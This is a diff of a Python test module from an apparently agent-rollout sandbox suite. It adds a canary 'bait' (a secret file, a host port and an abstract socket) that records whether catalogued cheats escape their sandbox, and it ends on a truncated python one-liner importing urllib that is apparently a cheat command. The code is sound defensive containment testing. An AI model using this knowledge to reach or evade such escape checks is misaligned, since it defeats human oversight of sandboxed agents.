@@ -7,9 +7,12 @@ gets out of its sandbox.
 from __future__ import annotations
 
 import contextlib
+import secrets
+import socket
+import sys
 import tempfile
 import threading
-from collections.abc import Callable, Iterable
+from collections.abc import Callable, Iterable, Iterator
 from dataclasses import asdict, dataclass, field
 from pathlib import Path
 from typing import Any
@@ -18,13 +21,80 @@ from openenv.llm.scripted import Script, ScriptedModel, Turn
 from openenv.rollout.agents.base import Agent
 from openenv.rollout.agents.builtin import Noop, Oracle, Shell
 from openenv.rollout.capture.capture_server import CaptureServer
-from openenv.rollout.cheats.bait import Bait, lay_out
 from openenv.rollout.engine import Engine, named_backend
 from openenv.rollout.outcome import Outcome
 from openenv.rollout.store import RolloutStore
 from openenv.rollout.task import Dialect, Model, Task
 from openenv.sandboxes.base import Sandboxes
 from openenv.testing.cheat_catalogue import Cheat, all_cheats
+
+# bait: Bait on the host: a port, an abstract socket, a file and a process's argument that no sandbox may reach.
+#
+# Knows sockets and files. What touched the bait is noted, so that a cheat cannot hide that it got out.
+
+
+_MARK = "openenv-cheat"
+
+
+class Bait:
+    """What lies out while cheats run. Only `lay_out` makes one."""
+
+    def __init__(self, folder: Path) -> None:
+        self.secret = f"{_MARK}-{secrets.token_hex(16)}"
+        self.file = folder / f"{_MARK}-secret-{secrets.token_hex(4)}"
+        self.file.write_text(self.secret)
+        self.file.chmod(0o666)
+        self.abstract = f"{_MARK}-{secrets.token_hex(8)}"
+        self.touched: list[str] = []
+        self.port = 0
+
+    def tampered(self) -> bool:
+        """Say whether the file was changed."""
+        return self.file.read_text() != self.secret
+
+    def listen(self, stack: contextlib.ExitStack) -> None:
+        """Listen on the port and, where there are such, on the abstract socket."""
+        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
+        self.port = tcp.getsockname()[1]
+        self._serve(tcp, "the host's port", stack)
+        if sys.platform == "linux":
+            unix = stack.enter_context(socket.socket(socket.AF_UNIX))
+            unix.bind("\0" + self.abstract)
+            unix.listen()
+            self._serve(unix, "the host's abstract socket", stack)
+
+    def _serve(self, listener: socket.socket, what: str, stack: contextlib.ExitStack) -> None:
+        listener.settimeout(0.1)
+        over = threading.Event()
+
+        def accept() -> None:
+            while not over.is_set():
+                try:
+                    connection, _ = listener.accept()
+                except TimeoutError:
+                    continue
+                except OSError:
+                    return
+                self.touched.append(what)
+                with connection, contextlib.suppress(OSError):
+                    connection.sendall(self.secret.encode())
+
+        thread = threading.Thread(target=accept, name="openenv-bait", daemon=True)
+        thread.start()
+        stack.callback(thread.join)
+        stack.callback(over.set)
+
+
+@contextlib.contextmanager
+def lay_out() -> Iterator[Bait]:
+    """Lay out bait, and take it away in the end."""
+    with contextlib.ExitStack() as stack:
+        folder = Path(stack.enter_context(tempfile.TemporaryDirectory(prefix=f"{_MARK}-")))
+        folder.chmod(0o755)
+        bait = Bait(folder)
+        bait.listen(stack)
+        yield bait
+
 
 _ONE_CALL = (
     'python3 -c "import json, os, urllib.request as u; '
